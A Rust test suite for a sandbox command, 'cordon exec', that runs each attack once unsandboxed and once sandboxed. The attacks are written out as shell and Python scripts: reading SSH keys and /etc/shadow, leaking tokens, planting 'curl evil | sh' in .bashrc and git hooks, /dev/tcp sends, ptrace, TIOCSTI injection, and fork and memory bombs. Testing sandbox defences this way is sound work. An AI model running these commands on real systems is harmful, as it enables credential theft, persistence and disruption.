//! Attacks on `cordon exec`. Each runs once without the sandbox, to prove the attack works
//! on this machine, and once inside it; both are judged by effects observed from outside (a
//! file written, a canary received, a process still alive), never by the attack's own exit
//! code.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use super::attack::{bare, leak, leaks_only_without_sandbox, reset, sandboxed, SECRET};
use super::common::{
    assert_stderr_has, default_policy_with, exec_script, read_or_empty as read, sandbox_ready,
    skip, stderr, stdout, wait_until, Home, KillOnDrop,
};

#[test]
fn secret_under_home_is_unreadable() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let script = "cat \"$HOME/.ssh/id_ed25519\" > leak";
    leaks_only_without_sandbox(&home, &[], script, SECRET);
    // Granting the whole home does not expose it either: secrets are masked inside grants.
    home.remember_home_grant();
    let home_dir = home.path().display().to_string();
    leaks_only_without_sandbox(&home, &["--allow-read", &home_dir], script, SECRET);
}

#[test]
fn secret_is_unreachable_through_proc_root_and_cwd() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let script = "for p in /proc/[0-9]*; do cat \"$p/root$HOME/.ssh/id_ed25519\" \"$p/cwd/../.ssh/id_ed25519\"; done > leak 2>/dev/null";
    leaks_only_without_sandbox(&home, &[], script, SECRET);
}

#[test]
fn links_planted_in_the_workspace_lead_nowhere() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let symlink = "ln -sf \"$HOME/.ssh/id_ed25519\" key && cat key > leak";
    leaks_only_without_sandbox(&home, &[], symlink, SECRET);
    let _ = fs_err::remove_file(home.workspace().join("key"));
    let hardlink = "ln -f \"$HOME/.ssh/id_ed25519\" hard && cat hard > leak";
    leaks_only_without_sandbox(&home, &[], hardlink, SECRET);
}

#[test]
fn path_traversal_out_of_the_workspace_fails() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    leaks_only_without_sandbox(&home, &[], "cat ../.ssh/id_ed25519 > leak", SECRET);
}

#[test]
fn asking_for_a_secret_is_refused_before_anything_runs() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let key = home.path().join(".ssh/id_ed25519").display().to_string();
    let out = sandboxed(
        &home,
        &["--allow-read", &key],
        "cat \"$HOME/.ssh/id_ed25519\" > leak",
    );
    assert_eq!(out.status.code(), Some(125));
    assert_stderr_has(&out, "is a credentials or secrets location");
    assert!(!leak(&home).exists());
}

#[test]
fn secret_environment_variables_are_removed() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    leaks_only_without_sandbox(&home, &[], "echo \"$GITHUB_TOKEN\" > leak", "ghp_canary");
    // Unless the person asks for one by name.
    reset(&home);
    sandboxed(
        &home,
        &["--keep-env", "GITHUB_TOKEN"],
        "echo \"$GITHUB_TOKEN\" > leak",
    );
    assert!(read(leak(&home)).contains("ghp_canary"));
}

#[test]
fn persistence_files_in_home_are_not_changed() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let bashrc = home.path().join(".bashrc");
    fs_err::write(&bashrc, "# mine\n").unwrap();
    let autostart = home.path().join(".config/autostart/evil.desktop");
    let script = "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; mkdir -p \"$HOME/.config/autostart\" && echo evil > \"$HOME/.config/autostart/evil.desktop\"";

    bare(&home, script);
    assert!(read(&bashrc).contains("evil"));
    assert!(autostart.exists());
    fs_err::write(&bashrc, "# mine\n").unwrap();
    fs_err::remove_dir_all(home.path().join(".config/autostart")).unwrap();

    // The private home takes the writes and forgets them.
    sandboxed(&home, &[], script);
    assert_eq!(read(&bashrc), "# mine\n");
    assert!(!autostart.exists());

    // A writable home is refused unless asked for explicitly; even then .bashrc stays
    // read-only and a new autostart entry is moved aside when the program ends.
    let home_dir = home.path().display().to_string();
    home.remember_home_grant();
    let out = sandboxed(&home, &["--allow-write", &home_dir], script);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let out = sandboxed(
        &home,
        &["--allow-write", &home_dir, "--unsafe-broad-write"],
        script,
    );
    assert_eq!(read(&bashrc), "# mine\n", "{}", stderr(&out));
    assert!(!home.path().join(".config/autostart").exists());
    assert_stderr_has(
        &out,
        ".config/autostart` was created during the run; moved to",
    );
}

#[test]
fn git_hooks_in_the_workspace_stay_read_only() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let hooks = home.workspace().join(".git/hooks");
    fs_err::create_dir_all(&hooks).unwrap();
    let hook = hooks.join("pre-commit");
    let script = "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit; echo x >> .git/config";
    bare(&home, script);
    assert!(hook.exists());
    fs_err::remove_file(&hook).unwrap();
    fs_err::remove_file(home.workspace().join(".git/config")).unwrap();
    fs_err::write(home.workspace().join(".git/config"), "[core]\n").unwrap();

    let out = sandboxed(&home, &[], script);
    assert!(!hook.exists(), "{}", stderr(&out));
    assert_eq!(read(home.workspace().join(".git/config")), "[core]\n");
    // The rest of the workspace is writable.
    sandboxed(&home, &[], "echo ok > result");
    assert_eq!(read(home.workspace().join("result")), "ok\n");
}

/// Accepts one connection (or datagram) within `wait`, and returns what it carried.
fn tcp_canary(listener: &TcpListener, wait: Duration) -> String {
    listener.set_nonblocking(true).unwrap();
    let deadline = Instant::now() + wait;
    while Instant::now() < deadline {
        if let Ok((mut stream, _)) = listener.accept() {
            stream.set_nonblocking(false).unwrap();
            stream
                .set_read_timeout(Some(Duration::from_secs(2)))
                .unwrap();
            let mut text = String::new();
            let _ = stream.read_to_string(&mut text);
            return text;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    String::new()
}

fn udp_canary(socket: &UdpSocket) -> String {
    socket
        .set_read_timeout(Some(Duration::from_secs(2)))
        .unwrap();
    let mut buf = [0u8; 256];
    match socket.recv(&mut buf) {
        Ok(n) => String::from_utf8_lossy(&buf[..n]).into_owned(),
        Err(_) => String::new(),
    }
}

#[test]
fn direct_tcp_and_udp_to_the_host_fail() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let script = format!(
        "bash -c 'echo canary > /dev/tcp/127.0.0.1/{}; echo canary > /dev/udp/127.0.0.1/{}'",
        tcp.local_addr().unwrap().port(),
        udp.local_addr().unwrap().port()
    );
    bare(&home, &script);
    assert!(tcp_canary(&tcp, Duration::from_secs(5)).contains("canary"));
    assert!(udp_canary(&udp).contains("canary"));

    let out = sandboxed(&home, &[], &script);
    assert_eq!(tcp_canary(&tcp, Duration::from_millis(500)), "");
    assert_eq!(udp_canary(&udp), "", "{}", stderr(&out));
}

#[test]
fn raw_socket_cannot_forge_packets() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = udp.local_addr().unwrap().port();
    // A UDP datagram built by hand on a raw IPPROTO_UDP socket.
    let script = format!(
        "/usr/bin/python3 -c \"import socket,struct; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP); p=b'canary'; s.sendto(struct.pack('!HHHH', 40000, {port}, 8+len(p), 0)+p, ('127.0.0.1', 0))\""
    );
    bare(&home, &script);
    assert!(udp_canary(&udp).contains("canary"));
    let out = sandboxed(&home, &[], &script);
    assert_eq!(udp_canary(&udp), "");
    assert_stderr_has(&out, "PermissionError");
}

#[test]
fn abstract_and_path_unix_sockets_of_the_host_are_unreachable() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let name = format!("cordon-test-{}", std::process::id());
    let abstract_listener = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
        UnixListener::bind_addr(&addr).unwrap()
    };
    let agent_path = home.path().join("agent.sock");
    let path_listener = UnixListener::bind(&agent_path).unwrap();
    let script = format!(
        "/usr/bin/python3 -c \"
import socket
for a in ['\\0{name}', '{}']:
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(a); s.sendall(b'canary'); s.close()
    except OSError as e: print(a, e)
\"",
        agent_path.display()
    );
    let received = |listener: &UnixListener| {
        listener.set_nonblocking(true).unwrap();
        std::thread::sleep(Duration::from_millis(200));
        match listener.accept() {
            Ok((mut stream, _)) => {
                stream.set_nonblocking(false).unwrap();
                let mut text = String::new();
                let _ = stream.read_to_string(&mut text);
                text
            }
            Err(_) => String::new(),
        }
    };
    bare(&home, &script);
    assert_eq!(received(&abstract_listener), "canary");
    assert_eq!(received(&path_listener), "canary");
    let out = sandboxed(&home, &[], &script);
    assert_eq!(received(&abstract_listener), "", "{}", stdout(&out));
    assert_eq!(received(&path_listener), "");
}

/// Attaches to `pid`, then detaches delivering SIGTERM: the victim dies only if ptrace
/// worked.
fn ptrace_script(pid: u32) -> String {
    format!(
        "/usr/bin/python3 -c \"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, {pid}, 0, 0) != 0: raise SystemExit('attach: ' + os.strerror(ctypes.get_errno()))
os.waitpid({pid}, 0)
libc.ptrace(17, {pid}, 0, 15)
\""
    )
}

fn wait_for(child: &mut std::process::Child) -> Option<std::process::ExitStatus> {
    let deadline = Instant::now() + Duration::from_secs(3);
    while Instant::now() < deadline {
        if let Some(status) = child.try_wait().unwrap() {
            return Some(status);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

#[test]
fn ptrace_of_an_outside_process_fails() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    bare(&home, &ptrace_script(victim.id()));
    let status = wait_for(&mut victim).expect("the bare attack should kill the victim");
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(15)
    );

    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    let out = sandboxed(&home, &[], &ptrace_script(victim.id()));
    assert!(wait_for(&mut victim).is_none(), "{}", stderr(&out));
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[test]
fn tiocsti_cannot_type_into_the_callers_terminal() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let (master, slave) = cordon_sys::process::open_pseudo_terminal().unwrap();
    let script = "/usr/bin/python3 -c \"
import fcntl, termios
for c in 'echo pwned\\n':
    fcntl.ioctl(0, termios.TIOCSTI, c.encode())
\"";
    // What the caller's terminal would read as typed input.
    let typed = |slave: &std::os::fd::OwnedFd| {
        let (tx, rx) = std::sync::mpsc::channel();
        let mut reader = std::fs::File::from(slave.try_clone().unwrap());
        std::thread::spawn(move || {
            let mut buf = [0u8; 64];
            let n = reader.read(&mut buf).unwrap_or(0);
            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
        });
        rx.recv_timeout(Duration::from_millis(500))
            .unwrap_or_default()
    };
    let run = |sandbox: bool| {
        let mut cmd = if sandbox {
            let mut cmd = home.cordon(&["exec", "--", "sh", "-c", script]);
            cmd.env("PATH", "/usr/bin:/bin");
            cmd
        } else {
            let mut cmd = Command::new("sh");
            cmd.args(["-c", script]);
            cmd
        };
        cmd.stdin(Stdio::from(slave.try_clone().unwrap()))
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .output()
            .unwrap()
    };
    run(false);
    assert!(typed(&slave).contains("pwned"));
    let out = run(true);
    assert_eq!(typed(&slave), "", "{}", stderr(&out));
    drop(master);
}

/// A copy of the default policy with other caps.
fn policy_with_limits(home: &Home, pids: u64, memory: u64) -> String {
    policy_with_settings(
        home,
        serde_json::json!({"limits": {"pids": pids, "memory_bytes": memory}}),
    )
}

/// A copy of the default policy with `sandbox` settings replaced by those in `patch`.
fn policy_with_settings(home: &Home, patch: serde_json::Value) -> String {
    default_policy_with(home, |settings| {
        for (key, value) in patch.as_object().unwrap() {
            settings["sandbox"][key] = value.clone();
        }
    })
}

#[test]
fn fork_bomb_is_capped() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let policy = policy_with_limits(&home, 32, 512 << 20);
    // A bounded bomb: fork 100 sleepers, count how many started, then end them.
    let script = "/usr/bin/python3 -c \"
import os, time
children = []
for i in range(100):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    children.append(pid)
open('leak', 'w').write(str(len(children)))
for pid in children:
    os.kill(pid, 9)
\"";
    let started = |out: &Output| -> u32 {
        read(leak(&home))
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("no count: {}", stderr(out)))
    };
    reset(&home);
    let out = bare(&home, script);
    assert_eq!(started(&out), 100);
    reset(&home);
    let out = sandboxed(&home, &["--policy", &policy], script);
    let inside = started(&out);
    assert!(inside < 32, "processes started inside: {inside}");
}

#[test]
fn memory_bomb_is_killed() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let policy = policy_with_limits(&home, 256, 128 << 20);
    let script = "/usr/bin/python3 -c \"x = bytearray(512 << 20); x[::4096] = b'x' * len(x[::4096]); open('leak', 'w').write('allocated')\"";
    leaks_only_without_sandbox(&home, &["--policy", &policy], script, "allocated");
}

#[test]
fn no_daemon_survives_the_program() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let log = home.workspace().join("daemon.log");
    let script = "setsid sh -c 'echo $$ > daemon.pid; while true; do echo tick >> daemon.log; sleep 0.1; done' > /dev/null 2>&1 < /dev/null & sleep 0.3";
    let grows = || {
        let before = read(&log).len();
        std::thread::sleep(Duration::from_millis(600));
        read(&log).len() > before
    };
    bare(&home, script);
    assert!(grows(), "the bare daemon should keep running");
    let pid: i32 = read(home.workspace().join("daemon.pid"))
        .trim()
        .parse()
        .unwrap();
    cordon_sys::process::kill(pid, 9).unwrap();
    fs_err::remove_file(&log).unwrap();

    let out = sandboxed(&home, &[], script);
    assert!(log.exists(), "the daemon did not start: {}", stderr(&out));
    assert!(!grows(), "a daemon outlived `cordon exec`");
}

#[test]
fn inherited_descriptors_are_closed() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let secret = home.path().join(".ssh/id_ed25519").display().to_string();
    let inner = "cat <&7 > leak";
    let bare_script = format!("exec 7< '{secret}'; sh -c '{inner}'");
    reset(&home);
    bare(&home, &bare_script);
    assert!(read(leak(&home)).contains(SECRET));
    reset(&home);
    let cordon = env!("CARGO_BIN_EXE_cordon");
    let script = format!("exec 7< '{secret}'; {cordon} exec -- sh -c '{inner}'");
    let out = Command::new("sh")
        .args(["-c", &script])
        .current_dir(home.workspace())
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", home.path())
        .env("XDG_DATA_HOME", home.path().join("data"))
        .env("XDG_CONFIG_HOME", home.path().join("config"))
        .output()
        .unwrap();
    assert!(!read(leak(&home)).contains(SECRET), "{}", stderr(&out));
    assert_stderr_has(&out, "Bad file descriptor");
}

#[test]
fn io_uring_is_unavailable() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let source = home.workspace().join("uring.c");
    fs_err::write(
        &source,
        "#include <unistd.h>\n#include <sys/syscall.h>\n#include <stdio.h>\n\
         int main(void) { char p[120] = {0}; long fd = syscall(SYS_io_uring_setup, 4, p);\n\
         if (fd >= 0) { FILE *f = fopen(\"leak\", \"w\"); fputs(\"io_uring\", f); fclose(f); }\n\
         return 0; }\n",
    )
    .unwrap();
    let out = Command::new("gcc")
        .args(["-o", "uring", "uring.c"])
        .current_dir(home.workspace())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    leaks_only_without_sandbox(&home, &[], "./uring", "io_uring");
}

#[test]
fn tcp_ports_are_confined_when_the_policy_names_them() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let script = "/usr/bin/python3 -c \"
import socket
s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()
c = socket.create_connection(s.getsockname(), timeout=2)
open('leak', 'w').write('bound and connected')
\"";
    // The default policy leaves loopback TCP inside the sandbox alone.
    reset(&home);
    let out = sandboxed(&home, &[], script);
    assert_eq!(read(leak(&home)), "bound and connected", "{}", stderr(&out));
    let policy = policy_with_settings(
        &home,
        serde_json::json!({"tcp": {"bind": [], "connect": []}}),
    );
    leaks_only_without_sandbox(&home, &["--policy", &policy], script, "bound");
}

#[test]
fn system_secrets_are_masked_although_etc_is_readable() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    if !Path::new("/etc/shadow").exists() {
        skip("this machine has no /etc/shadow");
        return;
    }
    // As root the bare read works; as another user there is nothing to prove.
    reset(&home);
    bare(&home, "cat /etc/shadow > leak");
    let shadow = read(leak(&home));
    if shadow.is_empty() {
        skip("/etc/shadow is not readable by this user even without the sandbox");
        return;
    }
    let first = shadow.lines().next().unwrap().to_owned();
    leaks_only_without_sandbox(
        &home,
        &[],
        "cat /etc/shadow > leak; cat /etc/hostname >> leak",
        &first,
    );
    // /etc itself stays readable.
    assert!(!read(leak(&home)).is_empty());
}

#[test]
fn killing_cordon_kills_the_whole_tree() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let log = home.workspace().join("ticks.log");
    let mut child = KillOnDrop(
        home.cordon(&[
            "exec",
            "--",
            "sh",
            "-c",
            "(while true; do echo tick >> ticks.log; sleep 0.1; done) & wait",
        ])
        .env("PATH", "/usr/bin:/bin")
        .stdin(Stdio::null())
        .spawn()
        .unwrap(),
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while read(&log).is_empty() {
        assert!(Instant::now() < deadline, "the program never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.0.kill().unwrap();
    child.0.wait().unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let before = read(&log).len();
    std::thread::sleep(Duration::from_millis(600));
    assert_eq!(read(&log).len(), before, "the tree outlived cordon");
}

/// A program can leave a socket whose name is not UTF-8 in its workspace. The launch plan
/// could not carry its mask: the next launch waited for ever on its helper. Now it is
/// refused at once, naming the file, and nothing runs.
#[test]
fn a_socket_whose_name_is_not_utf8_refuses_the_next_launch_by_name_without_hanging() {
    use std::os::unix::ffi::OsStrExt;
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let ws = home.workspace();
    let _socket = UnixListener::bind(ws.join(std::ffi::OsStr::from_bytes(b"trap\xff"))).unwrap();
    let child = exec_script(&home, &[], "sh", "echo ran > ran")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut child = KillOnDrop(child);
    let mut status = None;
    wait_until("the launch to end (it hangs)", 30, || {
        status = child.0.try_wait().unwrap();
        status.is_some()
    });
    let status = status.unwrap();
    let mut err = String::new();
    child
        .0
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    assert_eq!(status.code(), Some(125), "{err}");
    assert!(err.contains("trap") && err.contains("not UTF-8"), "{err}");
    assert!(!ws.join("ran").exists(), "the program ran");
}

/// A workspace or grant whose path is not UTF-8 is refused by name (it made cordon panic,
/// with nothing recorded).
#[test]
fn a_workspace_or_grant_whose_path_is_not_utf8_is_refused_by_name() {
    use std::os::unix::ffi::OsStrExt;
    let home = Home::new();
    let odd = home.path().join(std::ffi::OsStr::from_bytes(b"w\xff"));
    fs_err::create_dir_all(&odd).unwrap();
    let out = home
        .cordon(&["exec", "--", "true"])
        .current_dir(&odd)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(stderr(&out).contains("not UTF-8"), "{}", stderr(&out));
    let out = home
        .cordon(&["exec", "--allow-read"])
        .arg(&odd)
        .args(["--", "true"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(stderr(&out).contains("not UTF-8"), "{}", stderr(&out));
}
